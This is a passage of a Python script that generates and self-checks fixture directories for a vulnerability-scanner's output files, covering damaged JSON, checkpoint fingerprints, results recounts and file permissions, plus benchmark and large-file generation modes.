                assert e.pos >= len(s.rstrip()) - 8 or "Unterminated string" in e.msg, (p, e)
        elif kind == "zero-filled":
            assert data[off:] == b"\0" * (len(data) - off) and (off == 0 or data[off - 1:off] != b"\0")
            assert len(data) == len(D.originals[f["path"]])
        elif kind == "corrupt":
            if data.startswith(b"\xef\xbb\xbf"):
                assert off == 0
                continue
            s = data.decode("utf-8")
            try:
                json.loads(s)
                raise AssertionError("corrupt file parses: %s" % p)
            except json.JSONDecodeError as e:
                assert e.pos == off, (p, e.pos, off, e.msg)   # ascii-only: char pos == byte pos
                assert off < len(data.rstrip())
                assert b"\0" not in data
        elif kind == "invalid-utf8":
            try:
                data.decode("utf-8")
                raise AssertionError("valid utf-8: %s" % p)
            except UnicodeDecodeError as e:
                assert e.start == off and e.reason != "unexpected end of data", (p, e)
        elif kind in ("schema", "checkpoint-missing-id", "checkpoint-name-mismatch"):
            obj = json.loads(data.decode("utf-8"))
            if kind == "checkpoint-missing-id":
                assert "id" not in obj
            if kind == "checkpoint-name-mismatch":
                assert safe_filename(obj["id"]) + ".json" != p.name
        else:
            raise AssertionError(kind)


def check_current(root, built):
    """Self-checks of the today's-era scans: every cross-file relation today's OpenAnt keeps."""
    RESERVED = ("_summary.json", "_fingerprint.json")

    def j(p):
        return json.loads(Path(p).read_bytes())

    def names_ok(fn, uid):
        safe = safe_filename(uid)
        return fn in (safe + ".json", safe[:233] + "_" + hashlib.sha256(uid.encode("utf-8")).hexdigest()[:16] + ".json")

    for key, (sc, d) in built.items():
        d = Path(d)
        # checkpoint dirs (live and archived): names, ids, sidecars
        for cpd in sorted(p for p in d.iterdir() if p.is_dir() and "_checkpoints" in p.name):
            ids = set()
            for f in sorted(cpd.iterdir()):
                obj = j(f)
                if f.name in RESERVED:
                    assert "id" not in obj, f
                    continue
                assert names_ok(f.name, obj["id"]), f
                assert obj["id"] not in ids, f
                ids.add(obj["id"])
            fpp = cpd / "_fingerprint.json"
            if fpp.exists():
                fp = j(fpp)
                assert list(fp)[:2] == ["scheme_version", "phase"] and list(fp)[-2:] == ["key_digest", "written_at"]
                k = {x: fp[x] for x in fp if x not in ("key_digest", "written_at")}
                assert fp["key_digest"] == "sha256:" + sha256_hex(canonical_json(k)), fpp
                assert cpd.name.split("_checkpoints")[0] in ("analyze", "verify", "llm_reach"), cpd
            summ = cpd / "_summary.json"
            if summ.exists():
                s = j(summ)
                assert s["completed"] + s.get("incomplete", 0) + s["errors"] == s["total_units"], summ
                assert s["total_units"] == len(ids), summ
        # results.json and its archives
        if (d / "results.json").exists() and key != "harbor":
            res = j(d / "results.json")
            assert list(res) == ["dataset", "model", "provider", "timestamp", "metrics", "results",
                                 "code_by_route", "analyze_fingerprint"]
            assert res["analyze_fingerprint"] == j(d / "analyze_checkpoints/_fingerprint.json")["key_digest"]
            c = count_verdicts_current(res["results"])
            m = res["metrics"]
            assert m["total"] == len(res["results"]) == sum(c.values())
            assert all(m[k] == c[k] for k in c), key
            assert m["enhance_unclassified_analyzed"] == sum(
                1 for r in res["results"] if r.get("security_classification") in SENTINELS)
            for r in res["results"]:
                if r.get("verdict") == "ERROR":
                    assert list(r) == ["unit_id", "verdict", "finding", "error", "error_info"], r
        for arch in d.glob("results__*.json"):
            a = j(arch)
            if arch.name != "results__legacy.json":
                assert arch.name == "results__%s.json" % short8(a["analyze_fingerprint"]), arch
                assert a["analyze_fingerprint"] != j(d / "results.json")["analyze_fingerprint"]
            else:
                assert "analyze_fingerprint" not in a
        for arch in d.glob("analyze_checkpoints.superseded-*"):
            assert arch.name.endswith(short8(j(d / "analyze_checkpoints/_fingerprint.json")["key_digest"]))
            assert j(arch / "_fingerprint.json")["key_digest"] != j(d / "analyze_checkpoints/_fingerprint.json")["key_digest"]
        # results_verified.json: three-state recount, #284 confirmed list, verify identity
        if (d / "results_verified.json").exists():
            rv = j(d / "results_verified.json")
            res = j(d / "results.json")
            assert list(rv) == ["dataset", "model", "timestamp", "verify", "metrics", "results", "confirmed_findings"]
            assert rv["metrics"] == dict({"total": len(rv["results"])}, **recount_verified(rv["results"]))
            verified = [r for r in rv["results"] if "verification" in r]
            assert rv["confirmed_findings"] == [r for r in verified if is_candidate(r)]
            vfp = j(d / "verify_checkpoints/_fingerprint.json")
            assert vfp["extra"]["analyze_fingerprint"] == res.get("analyze_fingerprint")
            for r in verified:
                if r.get("verification", {}).get("agree"):
                    assert r["verification_note"] == "", r        # restored agreement
        # pipeline_output.json
        if key != "harbor":
            po = j(d / "pipeline_output.json")
            exp = j(d / "results_verified.json") if (d / "results_verified.json").exists() else j(d / "results.json")
            ids = [f["id"] for f in po["findings"]]
            assert ids == ["VULN-%03d" % (i + 1) for i in range(len(ids))]
            for f in po["findings"]:
                assert f["identity_key"] == identity_key(f["location"]["file"], f["location"]["function"], f["cwe_id"])
                assert ":" not in f["location"]["file"]
            rs = po["results"]
            assert rs["vulnerable"] == len(ids) and rs["deduplicated"] == rs["vulnerable_before_dedup"] - len(ids)
            assert rs["total"] == exp["metrics"]["total"]
            assert [s["step"] for s in po["pipeline_stats"]["skipped_steps"]] == \
                [s for s in j(d / "scan.report.json")["summary"]["steps_skipped"] if s in
                 [x["step"] for x in po["pipeline_stats"]["skipped_steps"]]]
            rep = j(d / "scan.report.json")
            steps = [j(d / ("%s.report.json" % s)) for s in rep["summary"]["steps_completed"]]
            assert rep["status"] == worst_status(steps), key
            assert rep["status"] in ("partial", "skipped")
            assert rep["summary"]["steps_skipped_reasons"] == {s["step"]: s["reason"] for s in
                                                                po["pipeline_stats"]["skipped_steps"]} or key == "polyglot"
        # modes: every JSON today's writer wrote is listed 0600; Markdown and project.json are not
        for p in sorted(d.rglob("*")):
            if p.is_file():
                rel = str(p.relative_to(HERE))
                if p.suffix == ".md":
                    assert rel not in MODES, rel
                if rel in MODES:
                    assert "0" + oct(p.stat().st_mode & 0o777)[2:] == MODES[rel], rel
        if (d / "meta.json").exists():
            assert MODES[str((d / "meta.json").relative_to(HERE))] == "0600"


# ---------------------------------------------------------------------------------------------
# Modes
# ---------------------------------------------------------------------------------------------


def regenerate():
    t0 = time.time()
    for d in (HEALTHY, DAMAGED, LEGACY, MIGRATED, EXPECTED):
        if d.exists():
            shutil.rmtree(d)
    if OUTSIDE.exists() or OUTSIDE.is_symlink():
        OUTSIDE.unlink()
    MODES.clear()
    built = gen_healthy(HEALTHY)
    current = gen_current_healthy(HEALTHY)
    # the symlink target outside both trees: a torn results.json
    full = (Path(built["adhoc"][1]) / "results.json").read_bytes()
    OUTSIDE.write_bytes(full[:len(full) // 2])
    D = gen_damaged(DAMAGED)
    L = gen_legacy(LEGACY)
    gen_migrated(LEGACY, MIGRATED)
    EXPECTED.mkdir(parents=True)
    (EXPECTED / "legacy.json").write_bytes((json.dumps({"findings": L.findings}, indent=2, ensure_ascii=False) + "\n").encode())
    (EXPECTED / "legacy-mtimes.json").write_bytes((json.dumps(LEGACY_MTIMES, indent=2, sort_keys=True, ensure_ascii=False) + "\n").encode())
    (EXPECTED / "healthy.json").write_bytes((json.dumps({"findings": []}, indent=2) + "\n").encode())
    (EXPECTED / "damaged.json").write_bytes((json.dumps({"findings": D.findings}, indent=2, ensure_ascii=False) + "\n").encode())
    # A file a damage removed (the output a killed write left missing) keeps no mode to restore.
    for rel in [rel for rel in MODES if not (HERE / rel).exists()]:
        del MODES[rel]
    (EXPECTED / "modes.json").write_bytes((json.dumps(MODES, indent=2, sort_keys=True, ensure_ascii=False) + "\n").encode())
    n = check_healthy(HEALTHY, built)
    check_current(HEALTHY, current)
    check_damaged(D)
    check_damaged(L)
    print("healthy: %d JSON files ok; damaged: %d expected findings; legacy: %d; %.2fs"
          % (n, len(D.findings), len(L.findings), time.time() - t0))


def bench(outdir, scans, units):
    t0 = time.time()
    out = Path(outdir)
    if out.exists():
        shutil.rmtree(out)
    P = out / "projects"
    nfiles = 0
    nbytes = 0
    for i in range(scans):
        rng = random.Random(9000 + i)
        us = bench_units(rng, units, i)
        sha = sha40(rng)
        sc, d = project_scan(P, "bench-%02d" % i, dict(seed=9000 + i), us, sha,
                             start="2026-05-%02dT09:00:00" % (1 + i % 28))
        nfiles += len(sc.files) + 2
        nbytes += sum(len(b) for b in sc.files.values())
    print("bench: %d scan dirs, %d files, %.1f MB in %.1fs" % (scans, nfiles, nbytes / 1e6, time.time() - t0))


def bigfile(out, size_mb):
    """Stream one valid dataset-shaped JSON (json.dump indent=2 layout) of about size_mb MB."""
    target = size_mb * 1024 * 1024
    rng = random.Random(4242)
    sc = Scan("big", [], seed=4242, out_dir="/tmp/big", repo_path="/home/dev/src/big", repo_name="big")
    written = 0
    with open(out, "wb") as f:
        head = b'{\n  "name": "big",\n  "repository": "/home/dev/src/big",\n  "units": ['
        f.write(head)
        written += len(head)
        i = 0
        while written < target - 4096 or i == 0:
            u = U("big/pkg%04d/module_%06d.py:handler_%06d" % (i // 100, i, i), rng.choice(["sql", "safe", "misc", "xss"]),
                  "safe", big=rng.randint(1500, 6000), args="request")
            sc.units = [u]
            ds, _, _ = build_parse(sc)
            unit = ds["units"][0]
            s = json.dumps(unit, indent=2).replace("\n", "\n    ")
            chunk = ("\n    " if i == 0 else ",\n    ") + s
            b = chunk.encode()
            f.write(b)
            written += len(b)
            i += 1
        tail = ('\n  ],\n  "statistics": {\n    "total_units": %d\n  },\n  "metadata": {\n'
                '    "generator": "python_unit_generator.py",\n    "generated_at": "2026-05-14T09:00:03.412803",\n'
                '    "dependency_depth": 3\n  }\n}' % i).encode()
        f.write(tail)
    print("bigfile: %s, %d units, %d bytes" % (out, i, written + len(tail)))


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="mode")
    b = sub.add_parser("bench")
    b.add_argument("outdir")
    b.add_argument("--scans", type=int, default=20)
    b.add_argument("--units", type=int, default=2000)
    g = sub.add_parser("bigfile")
    g.add_argument("out")
    g.add_argument("--size-mb", type=int, default=1024)
    a = ap.parse_args(argv)
    if a.mode == "bench":
        bench(a.outdir, a.scans, a.units)
    elif a.mode == "bigfile":
        bigfile(a.out, a.size_mb)
    else:
        regenerate()


if __name__ == "__main__":
    main(sys.argv[1:])
